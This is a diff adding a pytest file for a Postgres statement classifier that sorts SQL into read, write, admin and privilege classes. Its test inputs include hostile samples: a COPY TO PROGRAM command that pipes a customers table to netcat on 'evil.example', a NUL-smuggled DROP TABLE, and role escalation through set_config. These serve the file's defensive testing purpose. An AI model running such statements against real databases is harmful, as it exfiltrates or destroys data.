@@ -1,0 +1,289 @@
+"""Classification beyond the class: relations, functions, statement texts, reasons, bad input."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+from gatehouse.classify import classify
+from gatehouse.classify.functions import SIDE_EFFECT_FREE, classify_function
+from gatehouse.classify.postgres import classify_sql
+from gatehouse.exceptions import ClassificationError
+from gatehouse.models import StatementClass
+
+READ = StatementClass.READ
+WRITE = StatementClass.WRITE
+UNKNOWN = StatementClass.UNKNOWN
+
+
+def only(sql: str):
+    result = classify_sql(sql)
+    assert result.parse_error is None, result.parse_error
+    assert len(result.statements) == 1
+    return result.statements[0]
+
+
+# -- dispatch --------------------------------------------------------------------------------------
+
+
+def test_classify_dispatches_postgres_by_kind() -> None:
+    result = classify("postgres", "delete from t")
+
+    assert result.kind == "postgres"
+    assert result.cls is WRITE
+
+
+def test_an_unknown_target_kind_is_refused_not_guessed() -> None:
+    with pytest.raises(ClassificationError) as caught:
+        classify("mysql", "select 1")
+
+    assert "mysql" in caught.value.message
+    assert caught.value.status == 400
+
+
+# -- relations -------------------------------------------------------------------------------------
+
+
+def test_relations_are_schema_qualified_where_written_and_folded_to_lower_case() -> None:
+    stmt = only("SELECT * FROM Public.Customers c JOIN orders o ON o.cid = c.id")
+
+    assert stmt.relations == ("public.customers", "orders")
+
+
+def test_quoted_and_unicode_escaped_identifiers_keep_what_the_parser_resolves() -> None:
+    stmt = only('select * from "Sales"."Q1" natural join U&"d\\0061ta"')
+
+    assert stmt.relations == ("Sales.Q1", "data")
+
+
+def test_relations_inside_subqueries_ctes_and_lateral_joins_are_found() -> None:
+    stmt = only(
+        "with recent as (select * from orders) "
+        "select * from recent r, lateral (select * from items i where i.order_id = r.id) x "
+        "where exists (select 1 from refunds)"
+    )
+
+    assert set(stmt.relations) == {"orders", "items", "refunds"}
+
+
+def test_a_cte_name_is_not_a_relation_but_a_qualified_table_of_that_name_is() -> None:
+    stmt = only("with customers as (select 1) select * from customers, public.customers")
+
+    assert stmt.relations == ("public.customers",)
+
+
+def test_write_targets_and_dropped_tables_are_relations() -> None:
+    assert only("insert into audit.log select * from staging").relations == ("audit.log", "staging")
+    assert only("DROP TABLE a.b, C").relations == ("a.b", "c")
+    assert only("truncate t1, t2").relations == ("t1", "t2")
+
+
+def test_select_into_names_the_new_table() -> None:
+    stmt = only("select * into backup from customers")
+
+    assert stmt.cls is StatementClass.DDL
+    assert set(stmt.relations) == {"backup", "customers"}
+
+
+# -- functions -------------------------------------------------------------------------------------
+
+
+def test_every_function_called_is_listed_as_written() -> None:
+    stmt = only("select lower(name), pg_catalog.upper(name), count(*) from t order by length(name)")
+
+    assert set(stmt.functions) == {"lower", "pg_catalog.upper", "count", "length"}
+    assert stmt.cls is READ
+
+
+@pytest.mark.parametrize(
+    ("sql", "cls"),
+    [
+        ("select U&\"nextv\\0061l\"('s')", WRITE),  # Unicode escapes resolve to nextval
+        ("select \"NEXTVAL\"('s')", UNKNOWN),  # a quoted upper-case name is another function
+        ("select set_config('role'::text, 'admin', false)", StatementClass.PRIVILEGE),
+        ("select set_config('ROLE', 'admin', false)", StatementClass.PRIVILEGE),
+        ("select pg_catalog.set_config('search_path', 'x', false)", StatementClass.SESSION),
+        ("select count(*) filter (where nextval('s') > 0) from t", WRITE),
+        ("select sum(x) over (order by risky(x)) from t", UNKNOWN),
+        ("select * from rows from (generate_series(1, 3), nextval('s'))", WRITE),
+        ("select array(select nextval('s'))", WRITE),
+        ("values (1), (nextval('s'))", WRITE),
+        ("select * from t group by risky(x)", UNKNOWN),
+        ("select * from t having max(x) > risky()", UNKNOWN),
+        ("select * from t where x in (select pg_terminate_backend(1))", StatementClass.ADMIN),
+        ("select 1 union select risky()", UNKNOWN),
+        ("update t set a = risky()", UNKNOWN),
+        ("insert into t values (1) returning risky(id)", UNKNOWN),
+    ],
+)
+def test_functions_anywhere_in_the_tree_set_the_class(sql: str, cls: StatementClass) -> None:
+    assert only(sql).cls is cls
+
+
+def test_a_function_reason_names_the_function() -> None:
+    stmt = only("select my_report(1)")
+
+    assert stmt.cls is UNKNOWN
+    assert stmt.reason == "function my_report is not known to be side-effect free"
+
+
+@pytest.mark.parametrize(
+    ("parts", "cls"),
+    [
+        (("lower",), READ),
+        (("pg_catalog", "lower"), READ),
+        (("public", "lower"), UNKNOWN),
+        (("nextval",), WRITE),
+        (("pg_catalog", "nextval"), WRITE),
+        (("public", "nextval"), UNKNOWN),
+        (("pg_catalog", "pg_terminate_backend"), StatementClass.ADMIN),
+        (("lo_unlink",), StatementClass.ADMIN),
+        (("dblink_exec",), StatementClass.ADMIN),
+        (("pg_advisory_unlock_all",), WRITE),
+        (("query_to_xml",), UNKNOWN),
+        (("my_func",), UNKNOWN),
+        (("a", "b", "c"), UNKNOWN),
+    ],
+)
+def test_function_classes_by_name(parts: tuple[str, ...], cls: StatementClass) -> None:
+    assert classify_function(parts)[0] is cls
+
+
+def test_the_allowlist_holds_no_function_known_to_act() -> None:
+    for name in ("nextval", "setval", "set_config", "pg_sleep", "query_to_xml", "dblink", "lo_import"):
+        assert name not in SIDE_EFFECT_FREE
+
+
+# -- hidden writes ---------------------------------------------------------------------------------
+
+
+def test_a_data_modifying_cte_says_so() -> None:
+    stmt = only("with gone as (delete from customers returning id) select count(*) from gone")
+
+    assert stmt.cls is WRITE
+    assert stmt.reason == "data-modifying CTE (DELETE in WITH gone)"
+
+
+def test_a_locking_read_inside_a_cte_is_a_write() -> None:
+    stmt = only("with x as (select * from t for update) select * from x")
+
+    assert stmt.cls is WRITE
+    assert "FOR UPDATE" in stmt.reason
+
+
+def test_copy_to_program_is_admin_and_says_why() -> None:
+    stmt = only("COPY customers TO PROGRAM 'nc evil.example 80'")
+
+    assert stmt.cls is StatementClass.ADMIN
+    assert "COPY TO PROGRAM" in stmt.reason
+
+
+def test_explain_without_analyze_reads_and_explain_analyze_takes_the_inner_class() -> None:
+    planned = only("explain delete from customers")
+    executed = only("explain analyze delete from customers")
+
+    assert planned.cls is READ
+    assert planned.relations == ("customers",)
+    assert executed.cls is WRITE
+    assert executed.reason.startswith("EXPLAIN ANALYZE runs the statement")
+
+
+def test_explain_without_analyze_ignores_locks_and_ctes_it_does_not_run() -> None:
+    assert only("explain with d as (delete from t returning *) select * from d").cls is READ
+    assert only("explain select * from t for update").cls is READ
+    assert only("explain analyze select * from t for update").cls is WRITE
+
+
+# -- statement texts -------------------------------------------------------------------------------
+
+
+def test_each_statement_carries_its_own_text_without_separators() -> None:
+    result = classify_sql("select 1;\n\n  DELETE FROM t WHERE id = 2 ;  /* done */ commit;")
+
+    assert [s.text for s in result.statements] == ["select 1", "DELETE FROM t WHERE id = 2", "commit"]
+    assert [s.cls for s in result.statements] == [READ, WRITE, StatementClass.TRANSACTION]
+    assert result.cls is WRITE
+
+
+def test_statement_texts_are_sliced_correctly_after_multibyte_characters() -> None:
+    # The parser counts UTF-8 bytes: slicing by characters would cut the second statement.
+    result = classify_sql("select 'héllo wörld ✓'; update t set name = 'ü' where id = 1")
+
+    assert [s.text for s in result.statements] == [
+        "select 'héllo wörld ✓'",
+        "update t set name = 'ü' where id = 1",
+    ]
+
+
+def test_semicolons_inside_strings_and_dollar_quotes_do_not_split() -> None:
+    result = classify_sql("select 'a;b', $$c;d$$, $x$e;f$x$; select 2")
+
+    assert [s.text for s in result.statements] == ["select 'a;b', $$c;d$$, $x$e;f$x$", "select 2"]
+
+
+def test_multi_statement_class_is_the_riskiest_statement() -> None:
+    result = classify_sql("begin; select 1; grant all on t to public; vacuum; commit")
+
+    assert [s.cls.value for s in result.statements] == [
+        "transaction",
+        "read",
+        "privilege",
+        "admin",
+        "transaction",
+    ]
+    assert result.cls is StatementClass.PRIVILEGE
+
+
+# -- bad input never raises ------------------------------------------------------------------------
+
+
+def test_unparseable_text_is_one_unknown_statement_with_the_parsers_message() -> None:
+    result = classify_sql("selec * from customers")
+
+    assert result.parse_error == 'syntax error at or near "selec", at index 0'
+    assert len(result.statements) == 1
+    assert result.statements[0].cls is UNKNOWN
+    assert result.statements[0].text == "selec * from customers"
+
+
+def test_one_bad_statement_makes_the_whole_text_unparseable() -> None:
+    result = classify_sql("select 1; delete customers")
+
+    assert result.parse_error is not None
+    assert [s.cls for s in result.statements] == [UNKNOWN]
+
+
+@pytest.mark.parametrize("text", ["", "   ", "-- just a comment", "/* a */", ";", "\n\t\n"])
+def test_empty_text_is_an_empty_statement(text: str) -> None:
+    result = classify_sql(text)
+
+    assert result.parse_error == "empty statement"
+    assert result.cls is UNKNOWN
+
+
+def test_a_nul_character_is_refused_because_the_parser_would_stop_reading_at_it() -> None:
+    result = classify_sql("select 1\x00; drop table customers")
+
+    assert result.parse_error is not None
+    assert "NUL" in result.parse_error
+    assert result.cls is UNKNOWN
+
+
+def test_deep_nesting_neither_crashes_nor_reads() -> None:
+    parens = classify_sql("select " + "(" * 2000 + "nextval('s')" + ")" * 2000)
+    assert parens.cls is WRITE
+
+    too_deep = classify_sql("select " + "1+" * 50_000 + "1")
+    assert too_deep.cls is UNKNOWN
+    assert too_deep.parse_error
+
+
+def test_random_garbage_never_raises_and_unparseable_is_unknown() -> None:
+    rng = random.Random(20261101)
+    alphabet = "selctinraupdwhfom ;'\"$()*,.=-/\\\n\tUé✓0123456789"
+    for _ in range(500):
+        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
+        result = classify_sql(text)
+        if result.parse_error is not None:
+            assert result.cls is UNKNOWN
+        assert all(s.reason for s in result.statements)
